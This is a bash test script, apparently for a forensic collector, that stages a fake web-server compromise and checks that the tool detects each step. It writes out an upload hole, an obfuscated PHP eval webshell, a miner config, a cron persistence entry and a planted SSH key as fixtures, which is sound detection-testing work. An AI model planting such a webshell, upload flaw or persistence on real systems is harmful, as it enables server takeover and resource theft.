#!/usr/bin/env bash
# The story of an intrusion, told in order with the evidence of each link: an upload hole, a webshell,
# its requests in the logs, a miner, a cron entry and a planted key, among the files of a quiet site.
# The same site without them has no findings above low. All of it is made here and does nothing.
source "$(dirname "$0")/lib.sh" "$1"
export PATH="$PATH:/usr/sbin:/sbin" TZ=UTC
command -v python3 >/dev/null || skip "python3 is not installed"

# A site of some pages, an upload form, pictures and a job, as it was set up long ago.
quiet_site() {
  local root=$1 web=$1/var/www/html i
  mkdir -p "$root"/etc/nginx "$root"/etc/cron.d "$root"/var/log/nginx "$root"/root/.ssh "$root"/home "$root"/usr/bin
  mkdir -p "$web"/uploads/2026 "$web"/css "$web"/lib
  printf 'PRETTY_NAME="Test Linux 1"\nID=debian\n' >"$root/etc/os-release"
  echo web1 >"$root/etc/hostname"
  printf 'root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n' >"$root/etc/passwd"
  cat >"$root/etc/nginx/nginx.conf" <<'CONF'
user www-data;
http {
  access_log /var/log/nginx/access.log combined;
  server { listen 80; server_name shop.example; root /var/www/html; }
}
CONF
  printf '17 * * * * root run-parts /etc/cron.hourly\n' >"$root/etc/crontab"
  for i in 1 2 3 4 5 6; do
    printf '<?php\nrequire "lib/page%s.php";\necho htmlspecialchars($title);\n' "$i" >"$web/page$i.php"
    printf '<?php\n$title = "Page %s";\nfunction page%s_title() { return strtoupper("page"); }\n' "$i" "$i" >"$web/lib/page$i.php"
  done
  printf '<?php\n$name = basename($_FILES["f"]["name"]);\nmove_uploaded_file($_FILES["f"]["tmp_name"], "uploads/2026/" . $name);\n' >"$web/upload.php"
  printf '<?php\n// Called by a timer.\nforeach (glob("/var/spool/shop/*.job") as $job) { unlink($job); }\n' >"$web/cron.php"
  printf '\377\330\377\340JFIF picture' >"$web/uploads/2026/cat.jpg"
  printf 'body { margin: 0 }\n' >"$web/css/site.css"
  find "$root" -exec touch -h -d '2025-03-01 00:00:00 UTC' {} +
}

# log ROOT INTRUDER: a day of visitors; the older half rotated and compressed.
write_log() {
  python3 - "$1" "$2" <<'PYTHON'
import datetime, gzip, os, sys
root, intruder = sys.argv[1], sys.argv[2] == "yes"
day = datetime.datetime(2026, 1, 2, tzinfo=datetime.timezone.utc)
lines = []
def ask(minute, client, request, status=200, referer="-", agent="Mozilla/5.0 (X11)"):
    at = (day + datetime.timedelta(minutes=minute)).strftime("%d/%b/%Y:%H:%M:%S +0000")
    lines.append((minute, f'{client} - - [{at}] "{request} HTTP/1.1" {status} {700 + minute} "{referer}" "{agent}"'))
for i in range(1400):
    client = f"198.51.100.{i % 90 + 1}"
    ask(i, client, f"GET /page{i % 6 + 1}.php", referer="https://shop.example/")
    if i % 50 == 0: ask(i, client, "GET /uploads/2026/cat.jpg", referer="https://shop.example/page1.php")
    if i % 60 == 0: ask(i, "192.0.2.10", "POST /cron.php", agent="curl/8.5.0")
ask(300, "198.51.100.200", "GET /page1.php?cmd=whoami")      # a scanner
ask(301, "198.51.100.200", "GET /uploads/2026/none.php?cmd=id", 404)
if intruder:
    ask(595, "203.0.113.77", "GET /upload.php")
    ask(600, "203.0.113.77", "POST /upload.php")
    ask(602, "203.0.113.77", "POST /uploads/2026/thumb.php")
    ask(606, "203.0.113.77", "GET /uploads/2026/thumb.php?c=whoami")
    ask(720, "203.0.113.77", "POST /uploads/2026/thumb.php")
    ask(900, "203.0.113.78", "POST /uploads/2026/thumb.php")
lines.sort(key=lambda each: each[0])
early = "".join(text + "\n" for minute, text in lines if minute < 700)
late = "".join(text + "\n" for minute, text in lines if minute >= 700)
with gzip.GzipFile(root + "/var/log/nginx/access.log.1.gz", "wb", mtime=0) as file: file.write(early.encode())
with open(root + "/var/log/nginx/access.log", "w") as file: file.write(late)
PYTHON
}

intrusion() {
  local root=$1 wallet
  local shell=$root/var/www/html/uploads/2026/thumb.php miner=$root/tmp/.X11-unix/.x
  printf '<%sphp @ev%s($_PO%s["k"]);\n' '?' al ST >"$shell"
  touch -d '2026-01-02 10:00:10 UTC' "$shell"
  printf 'list of files\n' >"$root/var/www/html/uploads/2026/note.txt"
  touch -d '2026-01-02 10:20:00 UTC' "$root/var/www/html/uploads/2026/note.txt"
  mkdir -p "$miner"
  wallet=43AbCdEfGh$(printf '7%.0s' $(seq 85))
  printf '{"autosave": true, "cpu": {"enabled": true, "huge-pages": true}, "donate-level": 1,\n "pools": [{"url": "stratum+tcp://pool.example.invalid:3333", "user": "%s", "pass": "x", "keepalive": true}]}\n' "$wallet" >"$miner/config.json"
  touch -d '2026-01-02 10:30:00 UTC' "$miner/config.json"
  mkdir -p "$root/var/spool/cron/crontabs"
  echo '*/10 * * * * /tmp/.X11-unix/.x/kworker -c /tmp/.X11-unix/.x/config.json >/dev/null 2>&1' >"$root/var/spool/cron/crontabs/www-data"
  touch -d '2026-01-02 10:31:00 UTC' "$root/var/spool/cron/crontabs/www-data"
  echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f intruder' >"$root/root/.ssh/authorized_keys"
  touch -d '2026-01-02 10:40:00 UTC' "$root/root/.ssh/authorized_keys"
  # The same script again, elsewhere; and a job that no package brought.
  # What no definition asks for: a tool of the same account in that hour, one of a week before, a log.
  mkdir -p "$root/opt/data" "$root/data/batch/log"
  printf 'a tool' >"$root/opt/data/tool.bin" && touch -d '2026-01-02 10:25:00 UTC' "$root/opt/data/tool.bin"
  printf 'an old one' >"$root/opt/data/old.bin" && touch -d '2025-12-25 10:25:00 UTC' "$root/opt/data/old.bin"
  printf 'lines of the day' >"$root/data/batch/log/day.dat" && touch -d '2026-01-03 00:00:00 UTC' "$root/data/batch/log/day.dat"
  printf 'lines of long ago' >"$root/data/batch/log/ago.dat" && touch -d '2025-03-03 00:00:00 UTC' "$root/data/batch/log/ago.dat"
  mkdir -p "$root/var/www/html/lib/old"
  cp -p "$shell" "$root/var/www/html/lib/old/head.inc.php"
  # What the kernel wrote down when the server's process made the script.
  mkdir -p "$root/var/log/audit"
  cat >"$root/var/log/audit/audit.log" <<'LOG'
type=SYSCALL msg=audit(1767348010.250:77): arch=c000003e syscall=257 success=yes exit=5 items=2 ppid=900 pid=901 auid=4294967295 uid=33 gid=33 comm="php-fpm8.2" exe="/usr/sbin/php-fpm8.2" key="web"
type=CWD msg=audit(1767348010.250:77): cwd="/var/www/html"
type=PATH msg=audit(1767348010.250:77): item=0 name="uploads/2026/" inode=11 nametype=PARENT
type=PATH msg=audit(1767348010.250:77): item=1 name="uploads/2026/thumb.php" inode=12 nametype=CREATE
type=PROCTITLE msg=audit(1767348010.250:77): proctitle=7068702D66706D
LOG
  # Who may not give files away, or reads a folder on Windows, has a story without the owner's part.
  CHOWN=${windows:+no}
  CHOWN=${CHOWN:-yes}
  chown 33:33 "$shell" "$root/var/www/html/uploads/2026/note.txt" "$miner/config.json" "$root"/opt/data/* 2>/dev/null || CHOWN=no
  export CHOWN
}

cat >check.py <<'PYTHON'
import json, os, sys
findings = [json.loads(line) for line in open("findings")]
def one(matcher, ending):
    found = [f for f in findings if f["matcher"] == matcher and f["source"].get("path", "").endswith(ending)]
    assert len(found) == 1, (matcher, ending, found)
    return found[0]
def names(finding): return {w["witness"]: w for w in finding["evidence"]}

shell = one("webshell", "uploads/2026/thumb.php")
assert shell["severity"] in ("high", "critical"), shell
said = names(shell)
for name in ("log.requests", "log.few_clients", "log.no_referer", "file.in_upload_folder", "log.first_after_birth"):
    assert name in said and said[name]["text_en"] and said[name]["text_ja"], (name, list(said))
places = said["log.requests"]["addresses"]
logs = sorted((p["path"].rsplit("/", 1)[1]) for p in places)
assert logs == ["access.log", "access.log", "access.log.1.gz", "access.log.1.gz"], logs
assert "203.0.113.77" in shell["reason_en"] and "203.0.113.78" in shell["reason_ja"], shell
assert shell["first_seen"].startswith("2026-01-02T10:02:00") and shell["last_seen"].startswith("2026-01-02T15:00:00")
miner = one("miner", "tmp/.X11-unix/.x/config.json")
assert miner["severity"] in ("high", "critical"), miner

# The rules of our own that know the script are witnesses of that one finding.
assert not [f for f in findings if f["matcher"] == "yara" and f["source"]["path"] == shell["source"]["path"]], shell
assert any(name.startswith("yara.webshell_") for name in said), list(said)

story = [f for f in findings if f["matcher"] == "escalation"]
assert len(story) == 1 and story[0]["severity"] in ("info", "low"), story
story = story[0]
order = [w["witness"] for w in story["evidence"] if w["witness"].startswith("chain.")]
kinds = list(dict.fromkeys(order))
assert kinds == ["chain.entry", "chain.webshell", "chain.miner", "chain.persistence"], order
said = names(story)
def holds(name, *texts):
    witnesses = [w for w in story["evidence"] if w["witness"] == name]
    whole = " ".join(w.get("excerpt", "") + w["text_en"] for w in witnesses)
    for text in texts: assert text in whole, (name, text, witnesses)
    for witness in witnesses: assert witness["text_ja"] and witness["addresses"], witness
holds("chain.entry", "POST /upload.php", "203.0.113.77", "2026-01-02T10:00:00Z")
holds("chain.webshell", "thumb.php", "2026-01-02T10:00:10Z", "203.0.113.77")
holds("chain.miner")
holds("chain.persistence", "/var/spool/cron/crontabs/www-data", "/root/.ssh/authorized_keys")
assert "/etc/crontab" not in said["chain.persistence"]["excerpt"]
holds("near.writer", "note.txt")
holds("writer.log", "created /var/www/html/uploads/2026/thumb.php by /usr/sbin/php-fpm8.2", "pid 901", "uid 33", "2026-01-02T10:00:10Z")
assert said["writer.log"]["addresses"][0]["path"].endswith("/var/log/audit/audit.log"), said["writer.log"]
holds("near.family", "lib/old/head.inc.php")
holds("collected", "/opt/data/tool.bin", "/data/batch/log/day.dat")
if os.environ["CHOWN"] == "yes": holds("chain.webshell", "written by www-data (33), the account of the web server")
assert "switched on" in story["reason_en"] and "They added: 1 log lines" in story["reason_en"], story["reason_en"]
assert "切り替えました" in story["reason_ja"] and "追加で判明したこと" in story["reason_ja"], story["reason_ja"]
holds("near.client", "/upload.php")
for part in ("entry POST /upload.php", "webshell ", "miner ", "persistence "): assert part in story["reason_en"], story["reason_en"]
for part in ("侵入口 POST /upload.php", "Web シェル ", "マイナー ", "永続化 "): assert part in story["reason_ja"], story["reason_ja"]
at = [story["reason_en"].index(part) for part in ("entry POST", "-> webshell", "-> miner", "-> persistence")]
assert at == sorted(at), story["reason_en"]
others = [f for f in findings if f["severity"] in ("medium", "high", "critical")
          and not any(part in f["source"].get("path", "") for part in ("thumb.php", "head.inc.php", "/.x/", "crontabs/www-data", "upload.php"))]
assert not others, others
PYTHON

tell() {  # NAME SOURCE
  collect 0 --profile web-server --lang en "$2"
  lines "$bundle" findings >findings
  python3 check.py || die "$1: $(cut -c1-600 findings)"
  tar --zstd -tf "$bundle" >members
  grep -q 'uploads/2026/thumb.php' members || die "$1: the webshell is not in the bundle"
  # Escalation brings what lies near, and no more.
  for near in opt/data/tool.bin data/batch/log/day.dat; do
    grep -q "$near" members || die "$1: $near was not brought"
    lines "$bundle" files | grep "\"path\":\"/$near\"" | grep -q KonsekiEscalation || die "$1: $near: no reason"
  done
  for far in opt/data/old.bin data/batch/log/ago.dat; do
    ! grep -q "$far" members || die "$1: $far was brought"
  done
  tar --zstd -xOf "$bundle" --wildcards 'konseki/audit*' | grep '"event":"escalated"' >escalated || die "$1: the log is silent"
  expect escalated '"listed_every_file":true'
  expect escalated '"writer":'
  run 0 "$konseki" verify "$bundle"
  # The same again over the bundle.
  run 0 "$konseki" match "$bundle" --json
  for language in en ja; do
    rm -rf out && mkdir out
    "$konseki" collect --allow-output-on-source -o out --profile web-server --lang "$language" "$2" >stdout 2>stderr ||
      die "$1: $language"
    cat stderr >>stdout
    if [ "$language" = en ]; then
      expect stdout "entry POST /upload.php"
      expect stdout "Looking deeper"
      expect stdout "of these by escalation"
      expect stdout "more files ("
    else
      expect stdout "侵入口 POST /upload.php"
      expect stdout "詳しく調べています"
      expect stdout "うち詳しい調査"
      expect stdout "追加で"
    fi
  done
}

quiet_site quiet
write_log quiet no
collect 0 --profile web-server quiet
tar --zstd -tf "$bundle" >members
grep -q 'konseki/records/web.access' members || die "no requests were read"
if grep -q 'konseki/findings' members; then
  lines "$bundle" findings >findings
  # A page that stores uploads without asking who sends them is medium, whoever uses it.
  ! grep -E '"severity":"(high|critical)"' findings || die "a quiet site has grave findings"
  ! grep '"severity":"medium"' findings | grep -v '"path":"/var/www/html/upload.php"' ||
    die "a quiet site has findings"
  ! grep -q '"matcher":"escalation"' findings || die "a quiet site was escalated"
fi

cp -a quiet host
write_log host yes
intrusion host
tell folder host

# Where only digests were asked for, what turns out to be evidence is in the bundle all the same.
mkdir -p elsewhere/srv/data
cp host/var/www/html/uploads/2026/thumb.php elsewhere/srv/data/thumb.inc2
echo plain >elsewhere/srv/data/plain.inc2 && touch -d '2025-03-01 00:00:00 UTC' elsewhere/srv/data/plain.inc2
cp -a host/etc elsewhere/
collect 0 --files digest elsewhere
tar --zstd -tf "$bundle" >members
grep -q 'srv/data/thumb.inc2' members || die "evidence was left behind"
! grep -q 'srv/data/plain.inc2' members || die "a digest was enough"
lines "$bundle" files >files
grep 'thumb.inc2' files | grep -q KonsekiFinding || die "the reason is not recorded"

command -v mke2fs >/dev/null || skip "mke2fs is not installed; the folder was told"
truncate -s 64M host.ext4 && mke2fs -q -t ext4 -d host host.ext4
tell image host.ext4
